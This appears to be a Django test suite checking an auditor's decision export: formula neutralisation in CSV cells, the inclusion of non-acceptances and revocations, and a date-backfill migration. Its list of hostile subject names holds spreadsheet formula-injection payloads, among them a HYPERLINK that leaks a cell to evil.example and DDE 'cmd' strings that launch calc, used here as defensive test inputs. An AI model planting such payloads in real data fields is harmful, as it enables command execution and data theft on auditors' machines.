"""The outside security test's findings about the audit trail and the auditor's export
(issue 10): a hostile subject name must not become a formula in the auditor's
spreadsheet, every decision of a period (non-acceptances and revocations too) must be in
the export, and the event chain must be anchored so that cutting or rewriting it in the
database is found.
"""

import csv
import datetime
import importlib
import io
import json
import zipfile

from django.core.management import call_command
from django.utils import timezone

from cases.models import Case, CaseEvent
from cases.services import case_not_accept, case_revoke, case_sign
from documents.exports import export_verify, spreadsheet_cell
from documents.models import Letter
from tests import factories
from tests.helpers import (
    objection_accepted,
    restorable_record,
    restoration_accepted,
    review_and_recommend,
    submit,
)
from tests.test_exports import at, decide, issue, private_files  # noqa: F401 - a fixture

# --- an export as the auditor gets it ---------------------------------------------------------


def export(tmp_path, agency, date_from, date_to, name="export.zip"):
    out = tmp_path / name
    call_command(
        "export_decisions",
        agency=agency.code,
        date_from=date_from.isoformat(),
        date_to=date_to.isoformat(),
        out=str(out),
        stdout=io.StringIO(),
    )
    return out


def manifest_csv(path) -> list[dict]:
    with zipfile.ZipFile(path) as zf:
        return list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"))))


def manifest_json(path) -> dict:
    with zipfile.ZipFile(path) as zf:
        return json.loads(zf.read("manifest.json"))


def exported_events(path) -> list[dict]:
    with zipfile.ZipFile(path) as zf:
        return [json.loads(line) for line in zf.read("events.jsonl").decode().splitlines()]


# --- finding 5: a subject's name is not a formula in the auditor's spreadsheet ------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '＝HYPERLINK("http://evil.example/")',
]


def test_a_subject_named_like_a_formula_is_plain_text_in_the_auditors_manifest(
    agency, platforms, applicant, staff, tmp_path
):
    """A company whose registered name is =HYPERLINK(...) reaches the auditor's
    spreadsheet as text: the cell starts with a single quote, the JSON keeps the name."""
    hostile = factories.SubjectFactory(name=HOSTILE_NAMES[0])
    representative = factories.representative(hostile, "mallory")
    case = objection_accepted(
        hostile, [restorable_record(hostile, agency, platforms)], representative, staff
    )
    case = decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00"))
    letter = issue(case, Letter.Kind.REJECTION)

    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))

    (row,) = manifest_csv(out)
    assert row["verification_code"] == letter.verification_code
    assert row["subject_name"] == "'" + HOSTILE_NAMES[0]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert manifest_json(out)["letters"][0]["subject_name"] == HOSTILE_NAMES[0]
    report = export_verify(out)
    assert report.ok, report.problems


def test_every_cell_a_spreadsheet_would_evaluate_is_neutralised_and_no_other():
    assert [spreadsheet_cell(name) for name in HOSTILE_NAMES] == [
        "'" + name for name in HOSTILE_NAMES
    ]
    ordinary = ["深圳市示例科技有限公司", "Acme (Shenzhen) Co., Ltd.", "RD-2026-000001", 1234, ""]
    assert [spreadsheet_cell(value) for value in ordinary] == [str(v) for v in ordinary]


def test_verify_export_finds_a_manifest_csv_whose_cells_differ_from_the_json(
    agency, platforms, applicant, company, staff, tmp_path
):
    case = objection_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00"))
    issue(case, Letter.Kind.REJECTION)
    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))
    rows = manifest_csv(out)
    rows[0]["subject_name"] = '=HYPERLINK("http://evil.example/")'
    forged = io.StringIO()
    writer = csv.DictWriter(forged, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    target = tmp_path / "forged.zip"
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = forged.getvalue().encode() if item.filename == "manifest.csv" else None
            new.writestr(item, data if data is not None else old.read(item.filename))

    problems = export_verify(target).problems

    assert f"{rows[0]['file']}: manifest.csv and manifest.json disagree (subject_name)" in problems


# --- finding 7: every decision of the period is in the export ----------------------------------


def test_a_non_acceptance_is_exported_with_its_letter_and_events(
    company, agency, platforms, applicant, staff, tmp_path
):
    """Not accepting a request is a decision the applicant may appeal: the auditor sees it."""
    case = submit(
        Case.Kind.OBJECTION, company, [restorable_record(company, agency, platforms)], applicant
    )
    case = case_not_accept(
        case=case, officer=staff["intake"], reasons="The record is not this agency's."
    )
    letter = issue(case, Letter.Kind.NON_ACCEPTANCE)
    today = timezone.localdate()

    out = export(tmp_path, agency, today, today)

    case.refresh_from_db()
    assert case.decided_at is not None
    (row,) = manifest_csv(out)
    assert (row["case_reference"], row["letter_kind"], row["decision"], row["decided_on"]) == (
        case.reference,
        "non_acceptance",
        "not_accepted",
        today.isoformat(),
    )
    assert row["sha256"] == letter.sha256
    kinds = [e["kind"] for e in exported_events(out) if e["case"] == case.reference]
    assert kinds[0] == "submitted" and "not_accepted" in kinds and "letter_issued" in kinds
    assert export_verify(out).ok


def test_a_revocation_is_exported_in_the_period_it_was_revoked(
    company, agency, platforms, applicant, staff, tmp_path
):
    """A restoration approved in March and revoked today is a decision of today."""
    case = restoration_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    case = decide(case, staff, Case.Decision.APPROVED, at("2026-03-10", "10:00"))
    case = case_revoke(case=case, official=staff["signer"], reason="The commitment was false.")
    letter = issue(case, Letter.Kind.REVOCATION)
    today = timezone.localdate()

    out = export(tmp_path, agency, today, today)

    rows = {row["letter_kind"]: row for row in manifest_csv(out)}
    assert rows["revocation"]["verification_code"] == letter.verification_code
    assert rows["revocation"]["decided_on"] == "2026-03-10"
    assert rows["revocation"]["revoked_on"] == today.isoformat()
    kinds = [e["kind"] for e in exported_events(out) if e["case"] == case.reference]
    assert "revoked" in kinds
    assert export_verify(out).ok


def test_approvals_partial_approvals_rejections_and_non_acceptances_are_all_exported(
    company, agency, platforms, applicant, staff, tmp_path
):
    approved = restoration_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    approved = decide(approved, staff, Case.Decision.APPROVED, timezone.now())
    two = [restorable_record(company, agency, platforms) for _ in range(2)]
    partly = objection_accepted(company, two, applicant, staff)
    review_and_recommend(
        partly,
        staff["case_officer"],
        Case.Decision.PARTLY_APPROVED,
        record_outcomes={two[0].pk: "upheld", two[1].pk: "rejected"},
    )
    partly = case_sign(
        case=partly,
        signer=staff["signer"],
        decision=Case.Decision.PARTLY_APPROVED,
        reasons="Only the first record was wrong.",
    )
    rejected = objection_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    rejected = decide(rejected, staff, Case.Decision.REJECTED, timezone.now())
    refused = case_not_accept(
        case=submit(
            Case.Kind.OBJECTION,
            company,
            [restorable_record(company, agency, platforms)],
            applicant,
        ),
        officer=staff["intake"],
        reasons="Filed with the wrong agency.",
    )
    today = timezone.localdate()

    out = export(tmp_path, agency, today, today)

    decisions = {c["reference"]: c["decision"] for c in manifest_json(out)["cases"]}
    assert decisions == {
        approved.reference: "approved",
        partly.reference: "partly_approved",
        rejected.reference: "rejected",
        refused.reference: "not_accepted",
    }


def test_the_migration_dates_earlier_non_acceptances_and_revocations_from_their_events(
    company, agency, platforms, applicant, staff
):
    refused = case_not_accept(
        case=submit(
            Case.Kind.OBJECTION,
            company,
            [restorable_record(company, agency, platforms)],
            applicant,
        ),
        officer=staff["intake"],
        reasons="Filed with the wrong agency.",
    )
    revoked = restoration_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    revoked = decide(revoked, staff, Case.Decision.APPROVED, at("2026-03-10", "10:00"))
    revoked = case_revoke(case=revoked, official=staff["signer"], reason="False commitment.")
    # As a database from before the change has them.
    Case.objects.filter(pk=refused.pk).update(decided_at=None)
    Case.objects.filter(pk=revoked.pk).update(revoked_at=None)
    migration = importlib.import_module("cases.migrations.0008_decision_dates")

    from django.apps import apps

    migration.dates_from_events(apps, None)

    refused.refresh_from_db()
    revoked.refresh_from_db()
    assert refused.decided_at == CaseEvent.objects.get(case=refused, kind="not_accepted").at
    assert revoked.revoked_at == CaseEvent.objects.get(case=revoked, kind="revoked").at
    assert revoked.decided_at == at("2026-03-10", "10:00")
